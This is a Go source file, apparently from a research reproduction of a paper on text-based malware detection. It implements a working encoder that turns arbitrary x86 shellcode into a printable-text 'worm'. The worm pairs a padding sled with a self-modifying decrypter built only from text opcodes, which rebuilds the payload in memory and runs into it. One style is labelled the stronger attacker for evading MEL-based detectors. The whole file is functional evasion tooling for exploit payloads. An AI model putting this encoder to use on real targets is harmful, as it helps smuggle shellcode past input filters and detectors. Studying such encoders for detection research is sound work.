@@ -1,0 +1,341 @@
+package encoder
+
+import (
+	"errors"
+	"fmt"
+
+	"repro/internal/textins"
+)
+
+// Text opcodes used by the generated decrypter. Each is a printable
+// character; together they form the instruction vocabulary of Section
+// 2.1 that the worm is allowed to use.
+const (
+	opPushESP  = 0x54 // 'T' push esp
+	opPopECX   = 0x59 // 'Y' pop ecx
+	opPushECX  = 0x51 // 'Q' push ecx
+	opPopEAX   = 0x58 // 'X' pop eax
+	opPushEAX  = 0x50 // 'P' push eax
+	opPushImm  = 0x68 // 'h' push imm32
+	opPopESI   = 0x5E // '^' pop esi
+	opPopEDI   = 0x5F // '_' pop edi
+	opSubEAX   = 0x2D // '-' sub eax, imm32
+	opANDmr    = 0x21 // '!' and r/m32, r32
+	opXORmr    = 0x31 // '1' xor r/m32, r32
+	opSUBmr    = 0x29 // ')' sub r/m32, r32
+	modrmESIdB = 0x71 // 'q' [ecx+disp8], esi
+	modrmEDIdB = 0x79 // 'y' [ecx+disp8], edi
+	modrmEAXdB = 0x41 // 'A' [ecx+disp8], eax
+)
+
+// Zeroing constants: per byte, 0x20 AND 0x40 == 0, so AND-ing memory with
+// both clears it; both words are pure text ("    " and "@@@@").
+const (
+	zeroMaskA = 0x20202020
+	zeroMaskB = 0x40404040
+)
+
+// Window geometry: disp8 must itself be a text byte, so each ECX window
+// covers word offsets 0x20, 0x24, ..., 0x78 — 23 words (92 bytes).
+const (
+	windowFirstDisp = 0x20
+	windowWords     = 23
+	windowSpan      = windowWords * 4
+)
+
+// sledChars are harmless one-byte text instructions for the padding sled:
+// inc/dec of registers the decrypter setup overwrites anyway. inc/dec esp
+// (0x44 'D', 0x4C 'L') are excluded because they would move the stack.
+var sledChars = []byte{
+	'@', 'A', 'B', 'C', 'E', 'F', 'G', // inc eax..edi except esp
+	'H', 'I', 'J', 'K', 'M', 'N', 'O', // dec eax..edi except esp
+}
+
+// Style selects the decrypter block shape — the design-choice ablation
+// DESIGN.md calls out.
+type Style int
+
+// Decrypter styles.
+const (
+	// StyleXORWrite zeroes each target word with two AND masks and then
+	// XOR-writes the value: 8 instructions / 24 bytes per payload word.
+	// It works regardless of the region's initial contents.
+	StyleXORWrite Style = iota
+	// StyleSubWrite exploits that the placeholder region's initial
+	// contents are known ('AAAA'): a single SUB with a precomputed
+	// operand rewrites each word, at 6 instructions / 18 bytes per
+	// payload word — a smaller decrypter and therefore a lower (but
+	// still far super-threshold) MEL. This is the stronger attacker.
+	StyleSubWrite
+)
+
+// placeholderWord is the initial value of every region word ('AAAA').
+const placeholderWord = 0x41414141
+
+// Options configures worm generation.
+type Options struct {
+	// SledLen is the number of padding bytes before the decrypter,
+	// standing in for the exploit's distance-to-return-address padding.
+	// Defaults to 64 when zero; negative is invalid.
+	SledLen int
+	// ESPDelta is (worm start address − ESP at entry). In the classic
+	// stack smash the overwritten return address is immediately followed
+	// by the worm, so after RET pops it, ESP points at the worm: delta 0.
+	ESPDelta int32
+	// Seed diversifies the solver's decompositions and the sled.
+	Seed uint64
+	// Alphabet constrains emitted bytes; nil means the full text domain.
+	Alphabet *Alphabet
+	// Style selects the decrypter block shape (default StyleXORWrite).
+	Style Style
+}
+
+// Worm is a generated text malware payload.
+type Worm struct {
+	// Bytes is the complete worm: sled + decrypter + placeholder region.
+	Bytes []byte
+	// SledLen, DecrypterLen and RegionLen are the section sizes.
+	SledLen      int
+	DecrypterLen int
+	RegionLen    int
+	// Instructions is the number of instructions on the worm's execution
+	// path (sled + decrypter), a lower bound on its MEL.
+	Instructions int
+	// ESPDelta echoes the option used, for harnesses that must set up
+	// registers to match.
+	ESPDelta int32
+}
+
+// ErrPayloadTooLarge reports a payload whose placeholder region cannot be
+// reached with text displacements.
+var ErrPayloadTooLarge = errors.New("encoder: payload too large")
+
+// maxPayload bounds the encoded payload size; generous for shellcode.
+const maxPayload = 4096
+
+// Encode converts binary shellcode into a pure-text worm. The worm, when
+// executed with ESP = start − opts.ESPDelta, reconstructs the payload in
+// place and falls through into it.
+func Encode(payload []byte, opts Options) (*Worm, error) {
+	if len(payload) == 0 {
+		return nil, errors.New("encoder: empty payload")
+	}
+	if len(payload) > maxPayload {
+		return nil, fmt.Errorf("%w: %d bytes (max %d)", ErrPayloadTooLarge, len(payload), maxPayload)
+	}
+	if opts.SledLen < 0 {
+		return nil, errors.New("encoder: negative sled length")
+	}
+	sledLen := opts.SledLen
+	if sledLen == 0 {
+		sledLen = 64
+	}
+	alpha := opts.Alphabet
+	if alpha == nil {
+		alpha = TextAlphabet()
+	}
+	solver, err := NewSumSolver(alpha, opts.Seed)
+	if err != nil {
+		return nil, err
+	}
+
+	// Pad the payload to a whole number of 32-bit words.
+	words := packWords(payload)
+
+	// The decrypter's length is deterministic; compute it up front so the
+	// initial ECX adjustment can aim at the placeholder region.
+	nWindows := (len(words) + windowWords - 1) / windowWords
+	gen := &codegen{solver: solver}
+
+	// Measure a dry run to learn the decrypter length (instruction
+	// emission is length-deterministic for a given solver stream, but the
+	// solver output length varies with k; emit for real into a buffer and
+	// patch nothing — instead compute the target via a two-pass scheme).
+	//
+	// Pass 1 with a cloned solver state learns the byte length; pass 2
+	// regenerates with the same seed so lengths match exactly.
+	measure, err := emitDecrypter(newCodegenLike(alpha, opts.Seed), words, nWindows, 0, opts.ESPDelta, opts.Style)
+	if err != nil {
+		return nil, err
+	}
+	decrypterLen := len(measure.code)
+
+	regionStart := sledLen + decrypterLen // offset of region within worm
+	real, err := emitDecrypter(gen, words, nWindows, int32(regionStart), opts.ESPDelta, opts.Style)
+	if err != nil {
+		return nil, err
+	}
+	if len(real.code) != decrypterLen {
+		return nil, fmt.Errorf("encoder: internal length drift: %d != %d", len(real.code), decrypterLen)
+	}
+
+	// Assemble: sled + decrypter + text placeholder region.
+	rng := newSledRNG(opts.Seed)
+	worm := make([]byte, 0, sledLen+decrypterLen+len(words)*4)
+	for i := 0; i < sledLen; i++ {
+		worm = append(worm, sledChars[rng.Intn(len(sledChars))])
+	}
+	worm = append(worm, real.code...)
+	for range words {
+		worm = append(worm, 'A', 'A', 'A', 'A') // placeholder, overwritten at runtime
+	}
+
+	if !alpha.ContainsAll(worm) {
+		return nil, fmt.Errorf("encoder: generated worm leaks non-%s bytes", alpha.Name())
+	}
+	return &Worm{
+		Bytes:        worm,
+		SledLen:      sledLen,
+		DecrypterLen: decrypterLen,
+		RegionLen:    len(words) * 4,
+		Instructions: sledLen + real.instructions,
+		ESPDelta:     opts.ESPDelta,
+	}, nil
+}
+
+// packWords splits the payload into little-endian 32-bit words, padding
+// the tail with single-byte NOPs (0x90) so the appended padding still
+// executes if control reaches it.
+func packWords(payload []byte) []uint32 {
+	padded := append([]byte(nil), payload...)
+	for len(padded)%4 != 0 {
+		padded = append(padded, 0x90)
+	}
+	words := make([]uint32, 0, len(padded)/4)
+	for i := 0; i < len(padded); i += 4 {
+		words = append(words, uint32(padded[i])|uint32(padded[i+1])<<8|
+			uint32(padded[i+2])<<16|uint32(padded[i+3])<<24)
+	}
+	return words
+}
+
+// codegen emits decrypter instructions.
+type codegen struct {
+	solver       *SumSolver
+	code         []byte
+	instructions int
+}
+
+func newCodegenLike(alpha *Alphabet, seed uint64) *codegen {
+	solver, _ := NewSumSolver(alpha, seed) // alpha already validated
+	return &codegen{solver: solver}
+}
+
+// emit appends one instruction: an opcode byte plus its operand bytes.
+func (g *codegen) emit(op byte, operands ...byte) {
+	g.code = append(g.code, op)
+	g.code = append(g.code, operands...)
+	g.instructions++
+}
+
+// emitEAXConst emits instructions leaving EAX = value:
+// push base; pop eax; sub eax, w1; sub eax, w2 [; sub eax, w3] where
+// base − Σwi ≡ value.
+func (g *codegen) emitEAXConst(value uint32) error {
+	const base = zeroMaskA // "    ", any text word works
+	words, err := g.solver.SolveFixed(base - value)
+	if err != nil {
+		return err
+	}
+	g.emit(opPushImm, wordBytes(base)...)
+	g.emit(opPopEAX)
+	for _, w := range words {
+		g.emit(opSubEAX, wordBytes(w)...)
+	}
+	return nil
+}
+
+// emitECXAdd emits instructions computing ECX += delta without touching
+// memory beyond the stack: push ecx; pop eax; sub eax, wi...; push eax;
+// pop ecx, with Σwi ≡ −delta.
+func (g *codegen) emitECXAdd(delta int32) error {
+	words, err := g.solver.SolveFixed(uint32(-delta))
+	if err != nil {
+		return err
+	}
+	g.emit(opPushECX)
+	g.emit(opPopEAX)
+	for _, w := range words {
+		g.emit(opSubEAX, wordBytes(w)...)
+	}
+	g.emit(opPushEAX)
+	g.emit(opPopECX)
+	return nil
+}
+
+// emitDecrypter generates the full decrypter for the payload words.
+// regionStart is the placeholder region's offset from the worm start;
+// espDelta is (worm start − ESP at entry).
+func emitDecrypter(g *codegen, words []uint32, nWindows int, regionStart, espDelta int32, style Style) (*codegen, error) {
+	// ECX = ESP + espDelta + regionStart − windowFirstDisp, so that
+	// [ecx + 0x20] addresses the first region word.
+	g.emit(opPushESP)
+	g.emit(opPopECX)
+	if err := g.emitECXAdd(espDelta + regionStart - windowFirstDisp); err != nil {
+		return nil, err
+	}
+
+	if style == StyleXORWrite {
+		// ESI/EDI = the two AND masks that zero memory.
+		g.emit(opPushImm, wordBytes(zeroMaskA)...)
+		g.emit(opPopESI)
+		g.emit(opPushImm, wordBytes(zeroMaskB)...)
+		g.emit(opPopEDI)
+	}
+
+	for i, w := range words {
+		slot := i % windowWords
+		if i > 0 && slot == 0 {
+			// Advance the window.
+			if err := g.emitECXAdd(windowSpan); err != nil {
+				return nil, err
+			}
+		}
+		disp := byte(windowFirstDisp + slot*4)
+		switch style {
+		case StyleSubWrite:
+			// EAX = placeholder − word; a single SUB rewrites the slot.
+			if err := g.emitEAXConst(placeholderWord - w); err != nil {
+				return nil, err
+			}
+			g.emit(opSUBmr, modrmEAXdB, disp)
+		default:
+			// Zero the word: and [ecx+disp], esi ; and [ecx+disp], edi.
+			g.emit(opANDmr, modrmESIdB, disp)
+			g.emit(opANDmr, modrmEDIdB, disp)
+			// EAX = payload word; xor writes it into the zeroed slot.
+			if err := g.emitEAXConst(w); err != nil {
+				return nil, err
+			}
+			g.emit(opXORmr, modrmEAXdB, disp)
+		}
+	}
+	_ = nWindows
+	return g, nil
+}
+
+// newSledRNG returns the deterministic RNG used for sled diversity,
+// decoupled from the solver stream so that sled choice does not perturb
+// constant decompositions between the measuring and emitting passes.
+func newSledRNG(seed uint64) sledRNG {
+	return sledRNG{state: seed*0x9E3779B97F4A7C15 + 0xD1B54A32D192ED03}
+}
+
+type sledRNG struct{ state uint64 }
+
+func (r *sledRNG) Intn(n int) int {
+	r.state ^= r.state << 13
+	r.state ^= r.state >> 7
+	r.state ^= r.state << 17
+	return int(r.state % uint64(n))
+}
+
+// VerifyText checks the worm invariants: pure text and the paper's
+// structural claims (forward-only control flow is implied by full
+// unrolling; O(n) size is checked against the payload length).
+func (w *Worm) VerifyText() error {
+	if !textins.IsTextStream(w.Bytes) {
+		return errors.New("encoder: worm contains non-text bytes")
+	}
+	return nil
+}
